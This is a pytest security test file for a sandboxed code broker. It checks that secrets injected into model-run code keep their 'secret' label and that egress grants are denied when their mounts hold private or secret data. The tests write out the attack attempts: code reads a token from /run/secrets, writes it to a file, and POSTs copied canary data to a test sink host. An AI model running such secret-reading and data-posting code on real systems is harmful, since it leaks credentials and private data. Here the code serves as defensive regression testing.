"""Issue 31: two ways around the labels the independent attack found, as properties against a
real ``brokerd serve`` (bubblewrap).

1. A grant that injects a secret into the model's code labels what comes out secret, whatever
   its ``result_class`` says: the token a ``shell.run`` prints, and the file it writes, read back
   at least secret in a fresh public session.
2. A grant with egress is matched on what its mounts hold, not only on the session's taint: a
   mount a private or secret call wrote is over a public-only egress grant, so a fresh public
   session's call through it is denied before it runs, and the granted host receives nothing.

    uv run --frozen pytest tests/security/test_egress_and_secrets.py
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .flow_support import RANK, Brokerd, grant_text
from .test_concurrent_flow import Sink, sink  # noqa: F401  (the fixture, by name)
from .test_flow_property import serving_brokerd

pytestmark = pytest.mark.sandbox

TOKEN = "tok-CANARY-secret-trusted-4242"


@pytest.fixture
def brokerd(request) -> Iterator[tuple[Brokerd, Path, int]]:
    with serving_brokerd(request, "bubblewrap", "bx-egsec-",
                         '[secrets.tok]\nbackend = "env"\nvariable = "BX_TEST_TOKEN"\n',
                         {"BX_TEST_TOKEN": TOKEN}) as served:
        yield served


def directory(path: Path, uid: int) -> Path:
    path.mkdir(parents=True)
    if os.geteuid() == 0:
        os.chown(path, uid, uid)
    return path


def shell_grant(daemon: Brokerd, name: str, key: Path, mounts: list[tuple[Path, bool]], *,
                result_class: str, extra: str = "", classes: list[str] | None = None) -> None:
    text = grant_text(["shell.run"], result_class, argument="cwd",
                      allowed=f"paths = [{json.dumps(str(key))}]", mounts=[(key, False), *mounts],
                      extra=extra)
    if classes is not None:
        text = text.replace('classes = ["public", "private", "secret"]',
                            f"classes = {json.dumps(classes)}")
    (daemon.grants / f"{name}.toml").write_text(text)


def shell(daemon: Brokerd, session: str, key: Path, code: str):
    return daemon.call(session, 1, "shell.run", {"argv": ["python3", "-c", code],
                                                 "cwd": str(key)})


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(declared=st.sampled_from(["public", "private"]), serial=st.uuids())
def test_an_injected_secret_comes_out_secret_whatever_the_grant_declares(brokerd, declared,
                                                                         serial):
    daemon, root, uid = brokerd
    top = directory(root / serial.hex, uid)
    key, out = directory(top / "key", uid), directory(top / "out", uid)
    shell_grant(daemon, f"tok{serial.hex}", key, [(out, True)], result_class=declared,
                extra='secrets = ["tok"]\n')
    shell_grant(daemon, f"read{serial.hex}", directory(top / "rk", uid), [(out, False)],
                result_class="public")
    printed = shell(daemon, f"w{serial.hex}", key,
                    f"t = open('/run/secrets/tok').read()\nprint(t[::-1])\n"
                    f"open({str(out / 'copy.txt')!r}, 'w').write(t)")
    assert printed.status == "ok" and printed.label.data_class == "secret", printed
    read_back = shell(daemon, f"fresh{serial.hex}", top / "rk",
                      f"print(open({str(out / 'copy.txt')!r}).read())")
    assert TOKEN in read_back.content and read_back.label.data_class == "secret", read_back


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(writer=st.sampled_from(["private", "secret"]), allowed=st.sampled_from(
    [["public"], ["public", "private"]]), serial=st.uuids())
def test_egress_is_matched_on_what_its_mounts_hold(brokerd, sink, writer, allowed,  # noqa: F811
                                                  serial):
    daemon, root, uid = brokerd
    top = directory(root / serial.hex, uid)
    notes, vault = directory(top / "notes", uid), directory(top / "vault", uid)
    canary = f"CANARY-{writer}-trusted-{serial.hex}"
    (vault / "s.txt").write_text(canary)
    shell_grant(daemon, f"w{serial.hex}", directory(top / "wk", uid),
                [(vault, False), (notes, True)], result_class=writer)
    shell_grant(daemon, f"post{serial.hex}", directory(top / "pk", uid), [(notes, False)],
                result_class="public", classes=allowed, extra=f"hosts = [{json.dumps(sink)}]\n")
    copied = shell(daemon, f"writer{serial.hex}", top / "wk",
                   f"import shutil\nshutil.copy({str(vault / 's.txt')!r}, "
                   f"{str(notes / 'n.txt')!r})\nprint('copied')")
    assert copied.status == "ok", copied
    Sink.got.clear()
    posted = shell(daemon, f"fresh{serial.hex}", top / "pk",
                   "import urllib.request\n"
                   f"d = open({str(notes / 'n.txt')!r}, 'rb').read()\n"
                   f"urllib.request.urlopen(urllib.request.Request('http://{sink}/', data=d))")
    over = RANK[writer] > max(RANK[c] for c in allowed)
    if over:
        assert posted.status == "denied" and "its mounts hold" in posted.content, posted
        assert not any(canary in body for body in Sink.got), Sink.got
    else:
        assert posted.status == "ok", posted
